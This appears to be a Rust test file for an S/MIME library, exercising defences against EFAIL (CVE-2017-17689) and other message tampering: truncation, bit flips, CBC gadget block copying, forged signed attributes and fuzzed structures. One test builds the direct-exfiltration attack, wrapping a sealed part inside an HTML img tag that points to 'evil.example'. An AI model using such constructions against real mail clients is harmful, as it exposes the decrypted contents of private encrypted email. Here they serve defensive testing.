//! Those who mean harm: letters cut, changed and wrapped (EFAIL, CVE-2017-17689), to be taken for more than they are.

use crate::people::{letter, people, text};
use crate::sealing::{encrypted, signed};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use seal::{Cipher, Error, Extent, Identity, Standing, TRIES_MAX, open};
use std::ops::Range;
use std::sync::OnceLock;

/// Letters of every kind, sealed once, and whether they are encrypted.
fn sealed() -> &'static [Vec<u8>] {
    static SEALED: OnceLock<Vec<Vec<u8>>> = OnceLock::new();
    SEALED.get_or_init(|| {
        let people = people();
        let letter = letter("alice@hamburger.edu");
        vec![
            signed(&letter, &people.alice),
            encrypted(&letter, &[&people.bob], &people.alice, Cipher::Aes256Gcm),
            encrypted(&letter, &[&people.bob], &people.alice, Cipher::Aes256Cbc),
        ]
    })
}

/// Where the base64 of a structure stands.
fn structure(message: &[u8]) -> Range<usize> {
    let message = text(message);
    let start = message.rfind("name=\"smime.p7").unwrap();
    let start = start + message[start..].find("\r\n\r\n").unwrap() + 4;
    let end = message[start..].find("\r\n--").map_or(message.len(), |end| start + end);
    start..end
}

/// The message with its structure changed.
fn with_structure(message: &[u8], change: impl FnOnce(&mut Vec<u8>)) -> Vec<u8> {
    let range = structure(message);
    let base64: Vec<u8> = message[range.clone()].iter().copied().filter(|octet| !octet.is_ascii_whitespace()).collect();
    let mut der = STANDARD.decode(base64).unwrap();
    change(&mut der);
    let lines: Vec<String> = STANDARD.encode(der).as_bytes().chunks(76).map(text).collect();
    [&message[..range.start], lines.join("\r\n").as_bytes(), b"\r\n", &message[range.end..]].concat()
}

fn bob() -> &'static [Identity] {
    std::slice::from_ref(&people().bob)
}

#[test]
fn a_structure_cut_anywhere_opens_nothing() {
    for message in sealed() {
        let whole = open(message, &people().reader(bob())).unwrap();
        assert_eq!(whole.closed(), None);
        for tenth in 0..10 {
            let cut = with_structure(message, |der| der.truncate(der.len() * tenth / 10));
            let opened = open(&cut, &people().reader(bob())).unwrap();
            assert!(opened.closed().is_some() || opened.standing() != Some(Standing::Valid));
            assert!(!text(&opened.entity).contains("ketchup"));
        }
    }
}

#[test]
fn every_failure_to_decrypt_says_the_same() {
    for message in &sealed()[1..] {
        let length = {
            let mut length = 0;
            with_structure(message, |der| length = der.len());
            length
        };
        // The last octets are the tag or the last block, those in the middle the wrapped key.
        for at in [length - 1, length - 20, length - 40] {
            let broken = with_structure(message, |der| der[at] ^= 1);
            let opened = open(&broken, &people().reader(bob())).unwrap();
            match opened.closed() {
                Some(error) => assert_eq!(error, &Error::Undecryptable),
                // CBC: the change went unnoticed, and that is told.
                None => assert!(!opened.is_authenticated() && !opened.may_render_html()),
            }
        }
    }
}

/// The CBC gadget: a block of known text is turned into any other, without the key.
#[test]
fn a_gadget_in_cbc_decrypts_but_is_never_trusted() {
    let message = &sealed()[2];
    let gadget = with_structure(message, |der| {
        // Blocks in the middle of the ciphertext are repeated elsewhere, as the attack does.
        let end = der.len() - 64;
        let (from, to) = (end - 64, end - 160);
        let blocks = der[from..from + 32].to_vec();
        der[to..to + 32].copy_from_slice(&blocks);
    });
    let opened = open(&gadget, &people().reader(bob())).unwrap();
    assert_eq!(opened.closed(), None, "CBC does not notice");
    assert!(!opened.is_authenticated() && !opened.may_render_html());
    assert!(opened.words().not_proved.iter().any(|line| line.contains("unauthenticated")));
    let same_in_gcm = with_structure(&sealed()[1], |der| {
        let at = der.len() - 100;
        der[at] ^= 1;
    });
    assert_eq!(open(&same_in_gcm, &people().reader(bob())).unwrap().closed(), Some(&Error::Undecryptable));
}

/// Direct exfiltration: the victim's letter between the halves of an image tag.
#[test]
fn a_sealed_part_among_others_is_never_joined_with_them() {
    for message in sealed() {
        let inner = text(message);
        let inner = &inner[inner.find("Content-Type:").unwrap()..];
        let wrapped = format!(
            "From: alice@hamburger.edu\r\nContent-Type: multipart/mixed; boundary=\"evil\"\r\n\r\n--evil\r\n\
             Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--evil\r\n{inner}\r\n--evil\r\n\
             Content-Type: text/html\r\n\r\n\">\r\n--evil--\r\n"
        );
        let opened = open(wrapped.as_bytes(), &people().reader(bob())).unwrap();
        assert_eq!(opened.extent, Extent::Partial);
        assert!(text(&opened.entity).contains("ketchup") && !text(&opened.entity).contains("evil"));
        assert!(opened.words().not_proved[0].contains("Only one part"), "{:?}", opened.words());
        assert!(opened.header.is_none());
        if opened.encrypted().next().is_some() {
            assert!(!opened.may_render_html());
        }
    }
}

#[test]
fn a_third_part_beside_content_and_signature_is_not_signed() {
    let message = text(&sealed()[0]);
    let boundary = message.split("boundary=\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
    let end = format!("--{boundary}--");
    let more = message.replace(&end, &format!("--{boundary}\r\nContent-Type: text/plain\r\n\r\nPay me.\r\n{end}"));
    assert!(open(more.as_bytes(), &people().reader(&[])).is_none());
}

/// A signature over attributes must not be shown as one over a content.
#[test]
fn attributes_do_not_pass_for_a_content() {
    let message = with_structure(&sealed()[0], |der| {
        let digest_attribute = [0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x09, 0x04];
        let at = der.windows(11).position(|window| window == digest_attribute).unwrap();
        der[at + 10] = 0x05;
    });
    assert_ne!(open(&message, &people().reader(&[])).unwrap().standing(), Some(Standing::Valid));
}

/// A letter that names one reader again and again costs him a few tries, not a thousand.
#[test]
fn a_reader_named_often_tries_a_few_keys_only() {
    let message = encrypted(&letter("alice@hamburger.edu"), &[&people().bob], &people().bob, Cipher::Aes256Gcm);
    let of = |count: usize| vec![people().bob.clone(); count];
    let right_last = |wrong: usize| {
        // Identities of one certificate: all match, and the first opens. Here each is tried on a broken key.
        let broken = with_structure(&message, |der| {
            let at = der.len() - 1;
            der[at] ^= 1;
        });
        open(&broken, &people().reader(&of(wrong))).unwrap().closed().cloned()
    };
    assert_eq!(right_last(TRIES_MAX + 1), Some(Error::Undecryptable));
    assert!(open(&message, &people().reader(&of(TRIES_MAX + 1))).unwrap().closed().is_none());
}

#[test]
fn recipients_have_a_limit() {
    use seal::{Envelope, RECIPIENTS_MAX, Recipient, Sealing, Transport, seal};
    let stranger = people().authority.issuer.key();
    let many: Vec<_> = (0..RECIPIENTS_MAX)
        .map(|number| {
            let params = crate::people::person("Many", &format!("many{number}@crepes.fr"));
            let params = params.signed_by(stranger, &people().authority.issuer).unwrap();
            seal::Certificate::from_der(params.der()).unwrap()
        })
        .collect();
    let to: Vec<Recipient<'_>> =
        many.iter().map(|certificate| Recipient { certificate, transport: Transport::Oaep }).collect();
    let sealed = |recipients: &[Recipient<'_>]| {
        let envelope = Envelope { recipients, own: &people().bob.certificate, cipher: Cipher::Aes256Gcm };
        let sealing = Sealing { sign: None, encrypt: Some(envelope), protects_header: false, at: crate::people::NOW };
        seal(&letter("bob@crepes.fr"), &sealing)
    };
    let most = sealed(&to[..RECIPIENTS_MAX - 1]).unwrap();
    let opened = open(&most, &people().reader(bob())).unwrap();
    assert_eq!(opened.encrypted().next().unwrap().recipients, RECIPIENTS_MAX);
    assert!(matches!(sealed(&to), Err(Error::Limit { .. })));
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(300))]

    /// One octet of the structure or of what is signed changed: nothing panics, and nothing changed is called valid.
    #[test]
    fn a_changed_letter_never_passes(which in 0_usize..3, at: proptest::sample::Index, change in 1_u8..) {
        let message = &sealed()[which];
        let mut changed_der = Vec::new();
        let mutated = with_structure(message, |der| {
            let at = at.index(der.len());
            der[at] ^= change;
            changed_der.clone_from(der);
        });
        let opened = open(&mutated, &people().reader(bob())).unwrap();
        let untouched = text(&opened.entity).contains("Do you like ketchup?");
        // Octets that nobody signed (a name of an algorithm written in two ways) may change; then the content is the same.
        proptest::prop_assert!(opened.standing() != Some(Standing::Valid) || untouched);
        proptest::prop_assert!(which != 1 || opened.closed().is_some() || untouched);
    }

    #[test]
    fn a_changed_content_is_tampered_with(at: proptest::sample::Index, change in 1_u8..=0x7f) {
        let message = &sealed()[0];
        let content = text(message);
        let start = content.find("Do you like").unwrap();
        let end = start + content[start..].find("\r\n--").unwrap();
        let mut mutated = message.clone();
        mutated[start + at.index(end - start)] ^= change;
        let standing = open(&mutated, &people().reader(&[])).and_then(|opened| opened.standing());
        proptest::prop_assert!(standing != Some(Standing::Valid), "{:?}", standing);
    }

    #[test]
    fn any_structure_is_taken_without_a_panic(octets: Vec<u8>) {
        for kind in ["application/pkcs7-mime", "multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=b"] {
            let body = STANDARD.encode(&octets);
            let message = format!(
                "Content-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}\r\n--b\r\n\r\nx\r\n--b\r\n\
                 Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}\r\n--b--\r\n"
            );
            let standing = open(message.as_bytes(), &people().reader(bob())).and_then(|opened| opened.standing());
            proptest::prop_assert_ne!(standing, Some(Standing::Valid));
        }
    }
}
